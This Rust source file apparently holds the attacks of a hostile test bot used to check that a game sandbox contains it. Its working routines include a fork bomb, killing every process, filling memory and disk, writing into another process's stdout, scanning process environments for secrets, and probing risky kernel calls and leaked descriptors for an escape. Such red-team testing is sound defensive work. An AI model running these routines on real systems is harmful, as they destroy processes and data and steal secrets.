//! The hostile fixture bot's attacks (`fixture-bot attack=NAME`), for the
//! sandbox's red-team tests: each is tried when a game starts (`new_game`), and
//! its outcome is written to stderr as `attack NAME: succeeded (...)` or
//! `attack NAME: failed (...)`; then the bot plays on as `first-free` (if it
//! still can). The target of an attack (an address, a path, a pid) is in
//! `FIXTURE_TARGET`.

use std::io::{self, Read, Write};
use std::time::Duration;

/// Runs attack `name` and reports it on stderr.
pub fn run(name: &str) {
    let target = std::env::var("FIXTURE_TARGET").unwrap_or_default();
    let outcome = match name {
        "connect" => connect(&target),
        "resolve" => resolve(&target),
        "read" => read(&target),
        "write" => write(&target),
        "signal" => signal(&target),
        "kill-all" => kill_all(),
        "fork-bomb" => fork_bomb(),
        "alloc" => alloc(&target),
        "fill-tmp" => fill("/tmp/fill"),
        "big-file" => fill(&target),
        "pipe-write" => pipe_write(&target),
        "environ" => environ(&target),
        "userns" => user_namespace(),
        "kernel" => kernel(),
        "unix-connect" => unix_connect(&target),
        "descriptors" => descriptors(),
        other => Err(format!("no attack {other:?}")),
    };
    let line = match outcome {
        Ok(what) => format!("attack {name}: succeeded ({what})\n"),
        Err(why) => format!("attack {name}: failed ({why})\n"),
    };
    let _ = io::stderr().write_all(line.as_bytes());
}

type Outcome = Result<String, String>;

fn connect(address: &str) -> Outcome {
    let address = address.parse().map_err(|error| format!("{address:?}: {error}"))?;
    let mut stream =
        std::net::TcpStream::connect_timeout(&address, Duration::from_secs(2)).map_err(|e| e.to_string())?;
    stream.write_all(b"stolen\n").map_err(|e| e.to_string())?;
    Ok(format!("connected to {address}"))
}

fn resolve(host: &str) -> Outcome {
    let addresses: Vec<_> = std::net::ToSocketAddrs::to_socket_addrs(&(host, 80))
        .map_err(|e| e.to_string())?
        .collect();
    Ok(format!("{host} is {addresses:?}"))
}

fn read(path: &str) -> Outcome {
    if let Ok(entries) = std::fs::read_dir(path) {
        let names: Vec<_> = entries.filter_map(Result::ok).map(|entry| entry.file_name()).collect();
        return Ok(format!("listed {names:?}"));
    }
    let mut text = String::new();
    std::fs::File::open(path)
        .and_then(|mut file| file.read_to_string(&mut text))
        .map_err(|e| e.to_string())?;
    Ok(format!("read {} bytes", text.len()))
}

/// Creates `pwned` in each folder of the `:`-separated list; succeeds if
/// any was written.
fn write(dirs: &str) -> Outcome {
    let mut written = Vec::new();
    let mut refused = Vec::new();
    for dir in dirs.split(':') {
        let path = std::path::Path::new(dir).join("pwned");
        match std::fs::write(&path, b"pwned\n") {
            Ok(()) => written.push(path.display().to_string()),
            Err(error) => refused.push(format!("{}: {error}", path.display())),
        }
    }
    if written.is_empty() {
        Err(refused.join("; "))
    } else {
        Ok(format!("wrote {written:?}"))
    }
}

/// Lists the processes it can see and SIGKILLs the pid `target`.
fn signal(target: &str) -> Outcome {
    let visible = std::fs::read_dir("/proc")
        .map(|entries| {
            entries
                .filter_map(Result::ok)
                .filter(|entry| entry.file_name().to_string_lossy().parse::<u32>().is_ok())
                .count()
        })
        .unwrap_or(0);
    let pid: libc::pid_t = target.parse().map_err(|_| format!("no pid in {target:?}"))?;
    // SAFETY: kill(2); the attack is the point.
    if unsafe { libc::kill(pid, libc::SIGKILL) } == 0 {
        Ok(format!("killed {pid}; {visible} processes visible"))
    } else {
        Err(format!("{} ({visible} processes visible)", io::Error::last_os_error()))
    }
}

/// `kill -9 -1`: every process it may signal. Never run outside a sandbox.
fn kill_all() -> Outcome {
    // SAFETY: kill(2); the attack is the point.
    if unsafe { libc::kill(-1, libc::SIGKILL) } == 0 {
        Ok("signalled every process it may".to_owned())
    } else {
        Err(io::Error::last_os_error().to_string())
    }
}

/// Forks sleeping children until the system refuses.
fn fork_bomb() -> Outcome {
    for count in 0..100_000 {
        // SAFETY: the child only sleeps (async-signal-safe calls).
        match unsafe { libc::fork() } {
            -1 => {
                return Err(format!(
                    "fork refused after {count} processes: {}",
                    io::Error::last_os_error()
                ));
            }
            0 => loop {
                // SAFETY: pause has no preconditions.
                unsafe { libc::pause() };
            },
            _ => {}
        }
    }
    Ok("forked 100000 processes".to_owned())
}

/// Allocates and touches `target` MiB.
fn alloc(mib: &str) -> Outcome {
    let mib: usize = mib.parse().map_err(|_| format!("no size in {mib:?}"))?;
    let mut blocks = Vec::new();
    for _ in 0..mib {
        blocks.push(vec![1u8; 1 << 20]);
    }
    Ok(format!("holds {} MiB", std::hint::black_box(blocks).len()))
}

/// Writes 10 GB to `path`, a MiB at a time, until the system refuses.
fn fill(path: &str) -> Outcome {
    let mut file = std::fs::File::create(path).map_err(|e| e.to_string())?;
    let chunk = vec![7u8; 1 << 20];
    for written in 0..10_240u64 {
        if let Err(error) = file.write_all(&chunk) {
            return Err(format!("stopped after {written} MiB: {error}"));
        }
    }
    Ok(format!("wrote 10 GiB to {path}"))
}

/// Writes a bogus answer into the stdout of the process `target`.
fn pipe_write(target: &str) -> Outcome {
    let path = format!("/proc/{target}/fd/1");
    let mut pipe = std::fs::OpenOptions::new()
        .write(true)
        .open(&path)
        .map_err(|e| format!("{path}: {e}"))?;
    pipe.write_all(b"{\"type\":\"stone\",\"id\":999,\"cell\":\"z9\"}\n")
        .map_err(|e| e.to_string())?;
    Ok(format!("wrote into {path}"))
}

/// Reads the environment of every process it can see, looking for `needle`
/// (a variable of the organiser's, such as `NAME=`).
fn environ(needle: &str) -> Outcome {
    let mut read = 0;
    for entry in std::fs::read_dir("/proc")
        .map_err(|e| e.to_string())?
        .filter_map(Result::ok)
    {
        let Ok(environ) = std::fs::read(entry.path().join("environ")) else {
            continue;
        };
        read += 1;
        if environ
            .split(|&byte| byte == 0)
            .any(|variable| variable.starts_with(needle.as_bytes()))
        {
            return Ok(format!(
                "found {needle:?} in /proc/{}/environ",
                entry.file_name().to_string_lossy()
            ));
        }
    }
    Err(format!("{needle:?} is in none of the {read} environments it read"))
}

/// Creates a user namespace, where it would hold every capability; a
/// hundred of them would use up the user's quota for the other sandboxes.
fn user_namespace() -> Outcome {
    // SAFETY: unshare(2) changes only this process.
    if unsafe { libc::unshare(libc::CLONE_NEWUSER) } == 0 {
        Ok("entered a new user namespace".to_owned())
    } else {
        Err(io::Error::last_os_error().to_string())
    }
}

/// Calls the kernel's risky interfaces, harmlessly: each call either makes
/// an object that is dropped or asks a question. Succeeds if any call did.
fn kernel() -> Outcome {
    let mut ring_params = [0u8; 120];
    let mut ldt = [0u8; 16];
    // An array map of one 4-byte entry: type 2, key size 4, value size 4, 1 entry.
    let mut map = [0u32; 32];
    map[..4].copy_from_slice(&[2, 4, 4, 1]);
    // SAFETY: each call gets valid buffers of the sizes it expects.
    let calls: [(&str, libc::c_long); 5] = unsafe {
        [
            (
                "io_uring_setup",
                libc::syscall(libc::SYS_io_uring_setup, 1, ring_params.as_mut_ptr()),
            ),
            ("userfaultfd", libc::syscall(libc::SYS_userfaultfd, libc::O_CLOEXEC)),
            ("keyctl", libc::syscall(libc::SYS_keyctl, 0, -3, 1)),
            (
                "bpf",
                libc::syscall(libc::SYS_bpf, 0, map.as_mut_ptr(), std::mem::size_of_val(&map)),
            ),
            (
                "modify_ldt",
                libc::syscall(libc::SYS_modify_ldt, 0, ldt.as_mut_ptr(), ldt.len()),
            ),
        ]
    };
    let mut passed = Vec::new();
    let mut refused = Vec::new();
    for (name, result) in calls {
        if result < 0 {
            refused.push(format!("{name}: {}", io::Error::last_os_error()));
        } else {
            passed.push(name);
        }
    }
    if passed.is_empty() {
        Err(refused.join("; "))
    } else {
        Ok(format!("{} passed; {}", passed.join(", "), refused.join("; ")))
    }
}

/// Connects to the Unix socket at `path` and writes to it.
fn unix_connect(path: &str) -> Outcome {
    let mut stream = std::os::unix::net::UnixStream::connect(path).map_err(|e| format!("{path}: {e}"))?;
    stream.write_all(b"stolen\n").map_err(|e| e.to_string())?;
    Ok(format!("connected to {path}"))
}

/// Looks for descriptors it did not open besides stdin, stdout and stderr
/// (one of the host's folders would let it walk out of the sandbox).
fn descriptors() -> Outcome {
    // SAFETY: fcntl(F_GETFD) only asks about a descriptor.
    let open: Vec<i32> = (3..1024)
        .filter(|&fd| unsafe { libc::fcntl(fd, libc::F_GETFD) } != -1)
        .collect();
    if open.is_empty() {
        Err("no descriptor besides 0, 1 and 2".to_owned())
    } else {
        let targets: Vec<_> = open
            .iter()
            .map(|fd| std::fs::read_link(format!("/proc/self/fd/{fd}")).map(|target| target.display().to_string()))
            .collect();
        Ok(format!("open: {open:?} -> {targets:?}"))
    }
}
